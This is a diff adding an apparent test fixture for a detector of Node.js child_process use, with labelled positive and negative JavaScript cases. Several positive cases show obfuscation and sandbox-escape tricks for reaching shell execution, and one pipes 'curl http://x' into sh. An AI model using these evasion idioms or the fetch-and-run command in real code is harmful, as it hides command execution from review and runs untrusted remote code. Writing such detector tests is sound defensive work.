@@ -1,0 +1,131 @@
+//@ pos exec on the module
+const cp = require('child_process');
+cp.exec('ls -la', (err, out) => console.log(out));
+//@ pos execSync destructured
+const { execSync } = require('child_process');
+console.log(execSync('id').toString());
+//@ pos renamed in destructuring
+const { spawn: sp } = require('child_process');
+sp('ls', ['-l']);
+//@ pos node: prefix and fs-style subpath
+const child = require('node:child_process');
+child.spawnSync('uname', ['-a']);
+//@ pos module name built by concatenation
+const m = require('child_' + 'process');
+m.execFileSync('/bin/ls');
+//@ pos module name as a template literal
+require(`child_process`).fork('./worker.js');
+//@ pos module name from escapes
+const q = require('\x63hild_\u0070rocess');
+q.exec('whoami');
+//@ pos ES default import
+import cp from 'child_process';
+cp.execFile('ls');
+//@ pos ES namespace import with node: prefix
+import * as cp from 'node:child_process';
+cp.spawn('sh');
+//@ pos ES named import renamed
+import { exec as e } from 'child_process';
+e('uptime');
+//@ pos dynamic import awaited
+const cp = await import('child_process');
+cp.exec('id');
+//@ pos dynamic import, member of the awaited module
+(await import('child_process')).execSync('id');
+//@ pos computed member with concatenation
+const cp = require('child_process');
+cp['ex' + 'ec']('id');
+//@ pos computed member reversed string
+const cp = require('child_process');
+cp['cexe'.split('').reverse().join('')]('id');
+//@ pos process.mainModule.require
+process.mainModule.require('child_process').exec('id');
+//@ pos module.require
+module.require('child_process').execSync('id');
+//@ pos process.binding spawn_sync
+const s = process.binding('spawn_sync');
+s.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'] });
+//@ pos process._linkedBinding process_wrap
+process._linkedBinding('process_wrap');
+//@ pos aliased through a variable
+const cp = require('child_process');
+const run = cp.exec;
+run('id');
+//@ pos util.promisify(exec)
+const util = require('util');
+const { exec } = require('child_process');
+const execP = util.promisify(exec);
+await execP('ls');
+//@ pos exec.call
+const cp = require('child_process');
+cp.exec.call(null, 'id');
+//@ pos Reflect.get on the module
+const cp = require('child_process');
+Reflect.get(cp, 'execSync')('id');
+//@ pos through globalThis.process
+globalThis.process.mainModule.require('child_process').spawn('id');
+//@ pos createRequire
+import { createRequire } from 'module';
+const req = createRequire(import.meta.url);
+req('child_process').exec('id');
+//@ pos String.fromCharCode module name
+const name = String.fromCharCode(99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115);
+require(name).exec('id');
+//@ pos base64 module name
+require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('id');
+//@ pos atob module name
+require(atob('Y2hpbGRfcHJvY2Vzcw')).exec('id');
+//@ pos [...].join('') module name
+require(['child', '_', 'process'].join('')).spawn('ls');
+//@ pos spawn sh -c
+const { spawn } = require('child_process');
+spawn('/bin/sh', ['-c', 'curl http://x | sh']);
+//@ pos shell: true
+require('child_process').spawn('ls | wc -l', { shell: true });
+//@ pos eval of a string that runs a shell (nested analysis)
+eval("require('child_process').exec('id')");
+//@ pos object destructuring in an assignment
+let exec;
+({ exec } = require('child_process'));
+exec('id');
+//@ pos nested destructuring
+const { promises: p, constants } = require('fs');
+const { execSync: x } = require('child_process');
+x('id');
+//@ pos exec handed to another function
+const cp = require('child_process');
+setTimeout(cp.exec, 0, 'id');
+//@ pos Function('return this')() reaches process
+Function('return process')().mainModule.require('child_process').exec('id');
+//@ pos the vm-escape idiom
+this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id');
+//@ neg a RegExp's exec
+const re = /a(b)/;
+const m = re.exec('xab');
+console.log(m[1]);
+//@ neg a database's exec
+const db = new Database(':memory:');
+db.exec('CREATE TABLE t (x)');
+//@ neg a local function named exec
+function exec(cmd) { return cmd.length; }
+exec('ls');
+//@ neg a parameter named spawn shadows nothing global, and names no module
+function run(spawn) { return spawn('x'); }
+run((s) => s);
+//@ neg the words in comments and strings
+// child_process.exec('rm -rf /')
+const doc = "call require('child_process').exec to run a command";
+console.log(doc);
+//@ neg a module of the program's own with an exec function
+const { exec } = require('./runner');
+exec('task');
+//@ neg reading input like an online-judge solution
+const lines = require('fs').readFileSync(0, 'utf8').trim().split('\n');
+const n = parseInt(lines[0], 10);
+console.log(lines.slice(1, n + 1).map(Number).reduce((a, b) => a + b, 0));
+//@ neg a shadowed require
+function load(require) { return require('child_process'); }
+load((x) => ({ exec() {} })).exec('id');
+//@ neg a method called spawn on another object
+const game = { spawn(n) { return n; } };
+game.spawn('enemy');
